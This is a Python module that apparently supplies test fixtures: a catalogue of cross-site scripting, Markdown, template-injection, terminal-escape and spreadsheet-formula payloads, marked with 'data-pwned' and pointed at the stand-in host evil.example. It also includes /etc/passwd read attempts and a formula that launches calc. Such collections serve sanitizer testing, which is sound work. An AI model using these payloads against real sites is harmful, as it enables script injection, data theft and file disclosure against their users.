"""Texts that mean harm: each would run a script, make an element, or call another origin if it were let.

What they do can be seen: scripts set `window.pwned`, elements carry `data-pwned`, and addresses lead to evil.example.
"""

from typing import Final

EVIL: Final = "evil.example"
SITE: Final = f"https://{EVIL}"
RUN: Final = "window.pwned=1;alert(1)"
IMG: Final = f'<img data-pwned src={SITE}/i onerror="{RUN}">'

_SCRIPTS = (
    f"<script data-pwned>{RUN}</script>",
    f"<ScRiPt data-pwned src={SITE}/x.js></sCrIpT >",
    f"<script data-pwned type=module>import('{SITE}/m.js')</script>",
    f"</script><script data-pwned>{RUN}</script>",
    f"<<script data-pwned>{RUN}//<</script>",
    f"<script\x0cdata-pwned\x0c>{RUN}</script>",
)
_HANDLERS = (
    IMG,
    f"<img/data-pwned/src=`{SITE}/b`onerror={RUN}>",
    f'"><img data-pwned src=x onerror="{RUN}">',
    f"'><img data-pwned src=x onerror='{RUN}'>",
    f'" autofocus tabindex=0 onfocus="{RUN}" data-pwned="',
    f"' onmouseover='{RUN}' data-pwned='",
    f" onpointerenter={RUN} data-pwned x=",
    f"<body data-pwned onload={RUN}>",
    f"<details data-pwned open ontoggle={RUN}>x</details>",
    f"<input data-pwned autofocus onfocus={RUN}>",
    f"<marquee data-pwned onstart={RUN}>x</marquee>",
    f"<video data-pwned src={SITE}/v onerror={RUN} autoplay></video>",
    f"<style data-pwned>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
)
_FOREIGN_CONTENT = (
    f"<svg data-pwned onload={RUN}>",
    f"<svg><script data-pwned href={SITE}/s.js />",
    f"<svg data-pwned><use href={SITE}/u.svg#x /></svg>",
    f"<svg data-pwned><image href={SITE}/p.png /></svg>",
    f"<svg data-pwned><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe data-pwned src={SITE}></iframe></foreignObject></svg>",
    f"<math><mi data-pwned xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img data-pwned src={SITE}/1 onerror=1&gt;'>",
    f"<svg></p><style><a id='</style><img data-pwned src={SITE}/2 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img data-pwned src={SITE}/3 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img data-pwned src onerror={RUN}>",
)
_CONTAINERS = (
    f"<template shadowrootmode=open><img data-pwned src={SITE}/4 onerror={RUN}></template>",
    f"<iframe data-pwned src={SITE}/f></iframe>",
    f"<iframe data-pwned srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe data-pwned src='javascript:parent.{RUN}'></iframe>",
    f"<object data-pwned data={SITE}/o type=text/html></object>",
    f"<embed data-pwned src={SITE}/e>",
    f"<portal data-pwned src={SITE}/portal></portal><fencedframe data-pwned></fencedframe>",
    f"<form data-pwned action={SITE}/q><input name=q><button id=pwned>x</button></form>",
    f"<button data-pwned form=fn-paste formaction='javascript:{RUN}'>x</button>",
)
_LOADING = (
    f"<base data-pwned href={SITE}/>",
    f"<meta data-pwned http-equiv=refresh content='0;url={SITE}/r'>",
    f"<link data-pwned rel=stylesheet href={SITE}/c.css>",
    f"<link data-pwned rel='dns-prefetch preconnect prefetch' href={SITE}>",
    f"<style data-pwned>@import url({SITE}/i.css);</style>",
    f"<style data-pwned>body{{background:url({SITE}/bg)}}</style>",
    f"<p data-pwned style='background:url({SITE}/inline);position:fixed;inset:0'>x</p>",
    f"<img data-pwned srcset='{SITE}/1x 1x, {SITE}/2x 2x'>",
    f"<picture data-pwned><source srcset={SITE}/s><img alt=x></picture>",
    f"<audio data-pwned src={SITE}/a autoplay></audio><track data-pwned src={SITE}/t>",
    f"<table data-pwned background={SITE}/t><tr><td background={SITE}/d>x</table>",
)
_LINKS = (
    f"<a data-pwned href='javascript:{RUN}'>x</a>",
    f"<a data-pwned href='java&#x09;script:{RUN}'>x</a>",
    "<a data-pwned href='data:text/html,<script>alert(1)</script>' target=_top>x</a>",
    f"<a data-pwned href=/ui/ ping={SITE}/ping>x</a>",
    f"javascript:{RUN}",
    f" JaVaScRiPt\t:{RUN}//https://{EVIL}/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"https://user@{EVIL}/?q=<img data-pwned src=x onerror={RUN}>\"'",
    f"//{EVIL}/no-scheme",
)
_MARKDOWN = (
    f"![x]({SITE}/md.png)",
    f"![x][ref]\n\n[ref]: {SITE}/ref.png 'title'",
    f"![ref]\n\n[ref]: <{SITE}/short ref.png>",
    f"[x](javascript:{RUN}) [y](<javascript:{RUN}> 'z')",
    f"[x][js] [js][] [1][2]\n\n[js]: javascript:{RUN}\n[1]: {SITE}/one\n[2]: data:text/html,x",
    f'[x]({SITE} "onmouseover={RUN} data-pwned=")',
    f"<{SITE}/auto> <javascript:{RUN}> www.{EVIL} a@{EVIL}",
    f"[^1] ![x](data:image/svg+xml,<svg onload={RUN}>)\n\n[^1]: ![y]({SITE}/note)",
    f"| a | ![x]({SITE}/cell) |\n|---|---|\n| {IMG} | b |",
    f"```html\n```\n{IMG}\n~~~",
    f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
    f"    {IMG}\n\n# h\n\n- [ ] ![x]({SITE}/task)",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(\\includegraphics{{{SITE}/tex.png}}\\)",
)
_TEMPLATES = (
    f"{{{{constructor.constructor('{RUN}')()}}}} {{{{{{x}}}}}} {{#each this}}{{/each}}",
    f"${{fetch('{SITE}/t')}} `${{{RUN}}}`",
    f"{{@html '{IMG}'}} <%= 1 %> #{{7*7}} {{% raw %}}",
    f'__i18n__{{"key": "fn_ask", "__type__": "translation_metadata"}} {IMG}',
    f'{{"path": "/etc/passwd", "url": "{SITE}/f", "meta": {{"_type": "gradio.FileData"}}}}',
    "![x](/gradio_api/file=/etc/passwd) <img data-pwned src=/ui/gradio_api/file=/etc/passwd>",
)
_BREAKOUTS = (
    f"</textarea></title></style></xmp></noscript></iframe>{IMG}",
    f"--></p></li></details></section></div></main></body></html>{IMG}",
    f"]]>{IMG}<![CDATA[<?x ?><!doctype html><plaintext data-pwned>",
    f'\\"}};{RUN};//</script>\\u003cimg data-pwned src={SITE}/u\\u003e',
    f"&lt;img data-pwned src={SITE}/e onerror={RUN}&gt; &amp;lt;script&amp;gt; &#60;svg&#62;",
    '<p id=fn-panel class="fn-go pwned" data-turn=1 name=footnote><a id=fn-words data-words=1 data-pwned>x</a>',
    f"\u202e>1=derorrenopmi gmi<\u202c\u2066\u200f\u00ad ＜img data-pwned src={SITE}＞ <\u200bscript>",
    f"\x1b[2J\x1b[31m\x1b]8;;{SITE}\x1b\\x\x1b]8;;\x07 \x9b31m\x90q\x9c\x08\x7f\r<b data-pwned>",
    f"[bold red]x[/bold red] [link={SITE}]y[/link] [/] :smile: [@click=app.quit]z[/]",
    f'=HYPERLINK("{SITE}","x")\n+cmd|\' /C calc\'!A0\n@SUM(1)\t{IMG}',
)

PAYLOADS: Final[tuple[str, ...]] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_FOREIGN_CONTENT,
    *_CONTAINERS,
    *_LOADING,
    *_LINKS,
    *_MARKDOWN,
    *_TEMPLATES,
    *_BREAKOUTS,
)


def file_name(payload: str) -> str:
    """Return the payload as a name that a file may bear on Linux: no slash, no NUL, not hidden, not too long."""
    # Browsers take a backslash in an address for a slash.
    name = payload.replace("/", "\\").strip().lstrip(".")
    return name.encode()[:240].decode(errors="ignore")
